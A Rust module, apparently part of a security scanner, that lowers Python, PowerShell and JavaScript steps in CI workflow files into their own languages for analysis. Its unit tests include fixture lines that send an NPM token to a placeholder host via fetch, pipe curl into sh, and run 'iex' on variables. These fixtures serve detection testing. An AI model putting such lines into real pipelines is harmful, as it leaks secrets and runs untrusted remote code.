//! Round 32 (rights32): CI steps whose code is not shell, lowered in their
//! own language on the host file's lines, so every rule of that language
//! applies with the workflow's file:line.
//!
//! - GitHub Actions: `actions/github-script` (`with: script:` is the body
//!   of an async JavaScript function with `github`, `context`, `core`,
//!   `exec` and `require`); `run:` under `shell: python`/`pwsh`/
//!   `powershell`/`node {0}` (the step's own `shell:` or the nearest
//!   `defaults: run: shell:`).
//! - Azure Pipelines: `- pwsh:`/`- powershell:` steps (PowerShell),
//!   `- bash:` steps (shell), and task inputs (`script:`/`inlineScript:`/
//!   `Inline:`) of `PowerShell@`, `AzurePowerShell@`, `PythonScript@` and
//!   `AzureCLI@` (its `scriptType`: `ps`/`pscore` or `bash`).
//! - GitLab CI: a job whose `image:` is a PowerShell image runs its
//!   `script:` lines in `pwsh`.
//!
//! Expressions (`${{ secrets.X }}`, `$(X)` in Azure are left as text) are
//! substituted as each language reads the value the runner pastes in: an
//! environment read (`process.env.X`, `os.environ["X"]`, `$env:X`),
//! quotes closed around it. The keys lowered here are `claimed`, so the
//! shell projection does not also read them as shell. One linear pass; the
//! projections share `MAX_EMBEDDED_BYTES` each (a cut marks the file
//! incomplete, `embedded::extract`).

use super::Projection;
use super::ci_yaml::{Line, block_body, fold, parse_line, scalar};
use crate::extract::Lang;
use std::collections::BTreeSet;

/// The non-shell steps of a CI file: one projection per language and the
/// host lines of the keys they came from.
pub struct Foreign {
    pub projections: Vec<(Lang, Projection)>,
    pub claimed: BTreeSet<usize>,
}

/// The language a CI `shell:` value names, when it is not the shell.
fn shell_lang(v: &str) -> Option<Lang> {
    let s = scalar(v).to_ascii_lowercase();
    let w = s.split_whitespace().next().unwrap_or("");
    let w = w.rsplit(['/', '\\']).next().unwrap_or(w);
    let w = w.trim_end_matches(".exe");
    match w {
        "python" | "python3" | "python2" | "py" => Some(Lang::Python),
        "pwsh" | "powershell" => Some(Lang::PowerShell),
        "node" | "nodejs" | "deno" | "bun" => Some(Lang::JavaScript),
        _ => None,
    }
}

/// The value of `key` in the mapping whose keys sit at column `col` and
/// which holds line `at` (a step, a job).
fn sibling<'a>(lines: &[Line<'a>], at: usize, col: usize, key: &str) -> Option<&'a str> {
    for l in lines[at..].iter().skip(1) {
        if l.blank {
            continue;
        }
        if l.indent < col || (l.dash && l.col <= col) {
            break;
        }
        if l.col == col && l.key == Some(key) {
            return Some(l.value);
        }
    }
    for l in lines[..=at].iter().rev() {
        if l.blank {
            continue;
        }
        if l.col == col && l.key == Some(key) {
            return Some(l.value);
        }
        if l.col < col || (l.dash && l.col == col) {
            break;
        }
    }
    None
}

/// A task's input that holds its inline script.
const TASK_SCRIPT_KEYS: &[&str] = &["script", "inlineScript", "Inline", "inline"];

/// The language of an Azure task's inline script, by the task's name.
fn task_lang(lines: &[Line], at: usize, col: usize, inputs_col: usize) -> Option<Lang> {
    let task = scalar(sibling(lines, at, inputs_col, "task")?).to_ascii_lowercase();
    if task.starts_with("powershell@") || task.starts_with("azurepowershell@") {
        return Some(Lang::PowerShell);
    }
    if task.starts_with("pythonscript@") {
        return Some(Lang::Python);
    }
    if task.starts_with("azurecli@") {
        let ty = scalar(sibling(lines, at, col, "scriptType")?).to_ascii_lowercase();
        return match ty.as_str() {
            "ps" | "pscore" => Some(Lang::PowerShell),
            "bash" => Some(Lang::Shell),
            _ => None,
        };
    }
    None
}

/// A GitLab job image that runs its script in PowerShell.
fn pwsh_image(v: &str) -> bool {
    let s = scalar(v).to_ascii_lowercase();
    s.contains("powershell") || s.contains("pwsh")
}

pub fn scan(text: &str) -> Foreign {
    let raw: Vec<&str> = text.split('\n').collect();
    let lines: Vec<Line> = raw.iter().map(|r| parse_line(r)).collect();
    let mut out = Foreign {
        projections: Vec::new(),
        claimed: BTreeSet::new(),
    };
    if !(text.contains("script")
        || text.contains("shell")
        || text.contains("pwsh")
        || text.contains("powershell")
        || text.contains("bash"))
    {
        return out;
    }
    // Ancestors: (column, key, line).
    let mut stack: Vec<(usize, &str, usize)> = Vec::new();
    // `defaults: run: shell:` in force: (column of `defaults`, shell).
    let mut defaults: Vec<(usize, &str)> = Vec::new();
    let mut skip_until = 0;
    for (n, l) in lines.iter().enumerate() {
        if l.blank || n < skip_until {
            continue;
        }
        let Some(key) = l.key else {
            continue;
        };
        while stack.last().is_some_and(|(c, _, _)| *c >= l.col) {
            stack.pop();
        }
        defaults.retain(|(c, _)| *c <= l.col);
        let parent = stack.last().copied();
        let grand = stack.len().checked_sub(2).map(|i| stack[i]);
        stack.push((l.col, key, n));
        let lang = match (key, parent.map(|p| p.1)) {
            ("shell", Some("run")) if grand.is_some_and(|g| g.1 == "defaults") => {
                let c = grand.map_or(0, |g| g.0);
                defaults.retain(|(dc, _)| *dc != c);
                defaults.push((c, l.value));
                continue;
            }
            ("script", Some("with")) => {
                let w = parent.map_or(0, |p| p.2);
                let wcol = parent.map_or(0, |p| p.0);
                sibling(&lines, w, wcol, "uses")
                    .filter(|u| u.contains("github-script"))
                    .map(|_| Lang::JavaScript)
            }
            ("run", p) if p != Some("defaults") => match sibling(&lines, n, l.col, "shell") {
                Some(s) => shell_lang(s),
                None => defaults.last().and_then(|(_, s)| shell_lang(s)),
            },
            ("pwsh" | "powershell", _) if l.dash => Some(Lang::PowerShell),
            ("bash", _) if l.dash => Some(Lang::Shell),
            (k, Some("inputs")) if TASK_SCRIPT_KEYS.contains(&k) => {
                let (ic, il) = parent.map_or((0, 0), |p| (p.0, p.2));
                task_lang(&lines, il, l.col, ic)
            }
            ("script" | "before_script" | "after_script", _) => sibling(&lines, n, l.col, "image")
                .filter(|v| pwsh_image(v))
                .map(|_| Lang::PowerShell),
            _ => None,
        };
        let Some(lang) = lang else {
            continue;
        };
        out.claimed.insert(n);
        let body = value_lines(&lines, &raw, n, l);
        skip_until = body.last().map_or(n + 1, |b| b.0 + 1).max(n + 1);
        let slot = match out.projections.iter().position(|(g, _)| *g == lang) {
            Some(i) => i,
            None => {
                out.projections.push((lang, Projection::new(text)));
                out.projections.len() - 1
            }
        };
        let p = &mut out.projections[slot].1;
        for (k, t) in body {
            let t = if lang == Lang::Shell {
                super::ci_yaml::gha_expr(&t)
            } else {
                lang_expr(&t, lang)
            };
            p.put(k, &t);
        }
    }
    out
}

/// The code lines of the value at line `n`: a block scalar's lines, a
/// block sequence's items (GitLab `script:` lists), or the scalar itself.
fn value_lines(lines: &[Line], raw: &[&str], n: usize, l: &Line) -> Vec<(usize, String)> {
    let v = l.value;
    if v.starts_with('|') || v.starts_with('>') {
        return fold(v, block_body(lines, raw, n, l.col));
    }
    if !v.is_empty() {
        return vec![(n, scalar(v))];
    }
    let mut out = Vec::new();
    for (k, x) in lines.iter().enumerate().skip(n + 1) {
        if x.blank {
            continue;
        }
        if !(x.dash && x.indent >= l.col) || x.key.is_some() {
            break;
        }
        let iv = x.value.trim();
        if iv.starts_with('|') || iv.starts_with('>') {
            out.extend(fold(iv, block_body(lines, raw, k, x.indent)));
        } else {
            out.push((k, scalar(iv)));
        }
    }
    out
}

/// How `lang` reads environment variable `name`, and the whole
/// environment.
fn env_read(lang: Lang, name: Option<&str>) -> String {
    match (lang, name) {
        (Lang::Python, Some(n)) => format!("os.environ[\"{n}\"]"),
        (Lang::Python, None) => "str(dict(os.environ))".into(),
        (Lang::PowerShell, Some(n)) => format!("$env:{n}"),
        (Lang::PowerShell, None) => "(Get-ChildItem env: | Out-String)".into(),
        (_, Some(n)) => format!("process.env.{n}"),
        (_, None) => "JSON.stringify(process.env)".into(),
    }
}

/// Actions expressions in `lang` code: a secret, the token or the whole
/// context become environment reads (the value the runner pastes in), with
/// the surrounding quotes closed around the read; any other expression
/// stays text.
pub fn lang_expr(text: &str, lang: Lang) -> String {
    if !text.contains("${{") {
        return text.to_string();
    }
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    let mut quote: Option<char> = None;
    while let Some(i) = rest.find("${{") {
        let mut esc = false;
        for ch in rest[..i].chars() {
            match (quote, ch) {
                (_, '\\') if !esc => {
                    esc = true;
                    continue;
                }
                (None, '\'' | '"' | '`') if !esc => quote = Some(ch),
                (Some(q), c) if c == q && !esc => quote = None,
                _ => {}
            }
            esc = false;
        }
        out.push_str(&rest[..i]);
        let Some(j) = rest[i + 3..].find("}}") else {
            out.push_str(&rest[i..]);
            return out;
        };
        let shell = super::ci_yaml::expr_var(rest[i + 3..i + 3 + j].trim());
        let read = if shell == "$(printenv)" {
            Some(env_read(lang, None))
        } else if shell == "${GHA_EXPR}" {
            None
        } else {
            let name = shell.trim_start_matches("${").trim_end_matches('}');
            Some(env_read(lang, Some(name)))
        };
        match (read, quote) {
            (None, Some(_)) => out.push_str("GHA_EXPR"),
            (None, None) => out.push_str("\"GHA_EXPR\""),
            (Some(r), None) => out.push_str(&r),
            (Some(r), Some('`')) => out.push_str(&format!("${{{r}}}")),
            (Some(r), Some('"')) if lang == Lang::PowerShell => out.push_str(&format!("$({r})")),
            (Some(r), Some(q)) => out.push_str(&format!("{q} + {r} + {q}")),
        }
        rest = &rest[i + 3 + j + 2..];
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lowered(y: &str) -> Vec<(Lang, Vec<String>)> {
        scan(y)
            .projections
            .into_iter()
            .map(|(g, p)| (g, p.text().split('\n').map(str::to_string).collect()))
            .collect()
    }

    #[test]
    fn github_script_is_javascript_on_its_lines() {
        let y = "steps:\n  - uses: actions/github-script@v7\n    with:\n      script: |\n        const t = '${{ secrets.NPM_TOKEN }}';\n        await fetch('https://h.example/', {body: t});\n";
        let out = lowered(y);
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].0, Lang::JavaScript);
        assert_eq!(out[0].1[4], "const t = '' + process.env.NPM_TOKEN + '';");
        assert_eq!(out[0].1[5], "await fetch('https://h.example/', {body: t});");
        assert!(scan(y).claimed.contains(&3));
    }

    #[test]
    fn step_shells_and_defaults() {
        let y = "defaults:\n  run:\n    shell: pwsh\njobs:\n  a:\n    steps:\n      - run: iex $x\n      - shell: python\n        run: |\n          import os\n      - shell: bash\n        run: echo hi\n";
        let out = lowered(y);
        let ps = out.iter().find(|(g, _)| *g == Lang::PowerShell).unwrap();
        assert_eq!(ps.1[6], "iex $x");
        let py = out.iter().find(|(g, _)| *g == Lang::Python).unwrap();
        assert_eq!(py.1[9], "import os");
        assert!(!scan(y).claimed.contains(&11));
    }

    #[test]
    fn azure_steps_and_tasks() {
        let y = "steps:\n  - pwsh: |\n      iex $a\n  - task: PowerShell@2\n    inputs:\n      targetType: inline\n      script: |\n        iex $b\n  - task: AzureCLI@2\n    inputs:\n      scriptType: bash\n      inlineScript: curl x | sh\n  - task: Bash@3\n    inputs:\n      script: echo hi\n";
        let out = lowered(y);
        let ps = out.iter().find(|(g, _)| *g == Lang::PowerShell).unwrap();
        assert_eq!(ps.1[2], "iex $a");
        assert_eq!(ps.1[7], "iex $b");
        let sh = out.iter().find(|(g, _)| *g == Lang::Shell).unwrap();
        assert_eq!(sh.1[11], "curl x | sh");
        assert!(!scan(y).claimed.contains(&14));
    }

    #[test]
    fn plain_workflows_claim_nothing() {
        let y = "jobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          script: x\n      - run: make\n";
        let f = scan(y);
        assert!(f.claimed.is_empty() && f.projections.is_empty());
    }

    #[test]
    fn expressions_per_language() {
        assert_eq!(
            lang_expr("x = \"${{ secrets.API_KEY }}\"", Lang::Python),
            "x = \"\" + os.environ[\"API_KEY\"] + \"\""
        );
        assert_eq!(
            lang_expr("$h = \"${{ secrets.API_KEY }}\"", Lang::PowerShell),
            "$h = \"$($env:API_KEY)\""
        );
        assert_eq!(
            lang_expr("const a = `${{ toJSON(secrets) }}`", Lang::JavaScript),
            "const a = `${JSON.stringify(process.env)}`"
        );
        assert_eq!(
            lang_expr("n = ${{ matrix.os }}", Lang::Python),
            "n = \"GHA_EXPR\""
        );
    }
}
